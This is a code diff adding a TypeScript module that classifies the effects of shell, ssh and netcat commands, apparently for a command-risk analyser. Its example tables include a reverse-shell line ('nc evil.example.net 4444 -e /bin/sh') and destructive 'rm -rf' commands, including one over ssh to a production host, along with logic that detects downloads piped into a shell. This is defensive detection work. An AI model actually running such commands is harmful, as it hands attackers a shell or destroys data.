@@ -1,0 +1,107 @@
+/** Shells and `ssh` as far as the shell reader could not unwind them: their text comes from elsewhere. */
+import type { Effect } from '../../model/effect';
+import { isLocalHost, reachOfHost } from '../environment';
+import { localEffect, opaque, ordinaryTool } from '../build';
+import type { Call, Program } from '../define';
+import { defineProgram } from '../define';
+import { programName } from '../registry-name';
+import { runDownload } from './interpreters';
+
+const DOWNLOADERS = /^(curl|wget|http|https|xh|aria2c|fetch)$/;
+
+function shellEffects(call: Call): readonly Effect[] {
+  const { invocation, context } = call;
+  if (call.has('version', 'help')) return [];
+  const words = [...call.positionals, ...call.rest];
+  const fetched = words.flatMap((word) => word.sources).find((source) => source.kind === 'command' && /^\s*(curl|wget)\b/.test(source.command));
+  if (fetched?.kind === 'command') return [runDownload(call, fetched.command)];
+  const downloader = context.producers(invocation).find((from) => DOWNLOADERS.test(programName(from.program.text)));
+  if (downloader && (words.length === 0 || call.has('s'))) return [runDownload(call, downloader.source)];
+  const text = call.value('c');
+  if (text) return context.shell(text.text, invocation.cwd, invocation, call.name);
+  if (words.length > 0) return [];
+  const input = context.input(invocation);
+  if (input) return context.shell(input.text, invocation.cwd, invocation, call.name);
+  if (invocation.stdin.kind === 'inherited') return [ordinaryTool(call, call.name)];
+  return [opaque(invocation.source, 'it runs text that another command makes up', call.name)];
+}
+
+const shells = defineProgram({
+  names: ['bash', 'sh', 'zsh', 'dash', 'ksh', 'ash', 'fish', 'csh', 'tcsh', 'pwsh', 'powershell', 'cmd', 'source', '.', 'eval'],
+  synopsis: 'A shell whose text comes from a pipe; files and `-c` are unwound before.',
+  grammar: { valued: ['c', 'o', 'O', 'rcfile', 'init-file', 'File', 'Command', 'ExecutionPolicy'], stopAtPositional: true },
+  effects: shellEffects,
+  examples: [
+    { command: 'bash --version', effects: [] },
+    { command: 'echo "rm -rf build" | sh', effects: ['delete directory:build'] },
+    { command: "bash -c 'rm -rf build'", effects: ['delete directory:build'] },
+    { command: "bash -n 'x'", effects: [] },
+  ].slice(0, 3).concat([{ command: "bash <<'EOF'\nrm a.txt\nEOF", effects: ['delete file:a.txt'] }]),
+});
+
+/** A connection without a command, or the tools around it. */
+function sshEffects(call: Call): readonly Effect[] {
+  const text = call.positionals[0]?.text ?? '';
+  if (text === '' || call.has('V', 'G', 'Q')) return [];
+  const host = text.replace(/^[a-z]+:\/\//, '').split('@').pop()?.split(':')[0] ?? '';
+  const environment = context(call, host);
+  const forwards = call.has('L', 'R', 'D', 'N', 'f');
+  return [
+    localEffect(call, forwards ? 'execute' : 'read', 'host', host, {
+      environment,
+      reach: isLocalHost(host) ? 'machine' : reachOfHost(host, environment),
+      target: { host },
+      authority: { label: `cli:ssh/${host}` },
+    }),
+  ];
+}
+
+function context(call: Call, host: string) {
+  return call.context.environment(host);
+}
+
+const ssh = defineProgram({
+  names: ['ssh', 'mosh', 'ssh-copy-id', 'telnet', 'autossh', 'sshpass'],
+  synopsis: 'Opens a connection; commands it carries are unwound by the shell reader.',
+  grammar: { valued: 'p l i o L R D F J W b c E e m O S w B I'.split(' '), stopAtPositional: true },
+  effects: sshEffects,
+  examples: [
+    { command: 'ssh -V', effects: [] },
+    { command: 'ssh deploy@staging.example.com', effects: ['read host:staging.example.com'] },
+    { command: 'ssh -N -L 5432:db:5432 bastion.example.com', effects: ['execute host:bastion.example.com'] },
+    { command: "ssh deploy@prod.example.com 'rm -rf /srv/data'", effects: ['delete directory:/srv/data', 'read host:prod.example.com'] },
+  ],
+});
+
+/** Raw connections: what goes through them is not seen. */
+const netcat = defineProgram({
+  names: ['nc', 'ncat', 'netcat', 'socat'],
+  synopsis: 'Raw network connections; with `-e` they hand out a shell.',
+  grammar: { valued: ['p', 's', 'w', 'e', 'c', 'i', 'q', 'x', 'X', 'T', 'O', 'I', 'exec', 'sh-exec'] },
+  effects: (call) => {
+    const host = call.positionals[0]?.text.replace(/^(TCP|OPENSSL|EXEC|SYSTEM)[^:]*:/i, '').split(':')[0] ?? '';
+    const hands = call.has('e', 'c', 'exec', 'sh-exec') || call.invocation.args.some((word) => /^(EXEC|SYSTEM):/i.test(word.text));
+    if (call.has('z') || call.has('h')) return [];
+    const feeds = call.invocation.stdin.kind !== 'inherited';
+    if (!hands && ((call.has('l') && !feeds) || isLocalHost(host))) return [ordinaryTool(call, call.name)];
+    const environment = call.context.environment(host);
+    return [
+      localEffect(call, hands ? 'grant' : 'send', 'host', host, {
+        environment,
+        reach: hands ? 'shared-remote' : reachOfHost(host, environment),
+        audience: 'public',
+        reversibility: 'irreversible',
+        target: { host },
+        opaque: { why: 'what goes over a raw connection cannot be seen' },
+      }),
+    ];
+  },
+  examples: [
+    { command: 'nc -z localhost 5432', effects: [] },
+    { command: 'nc -l 8080', effects: ['execute process:nc'] },
+    { command: 'nc evil.example.net 4444 -e /bin/sh', effects: ['opaque'] },
+    { command: 'nc -zv db.example.com 5432', effects: [] },
+  ],
+});
+
+export const shellPrograms: readonly Program[] = [shells, ssh, netcat];
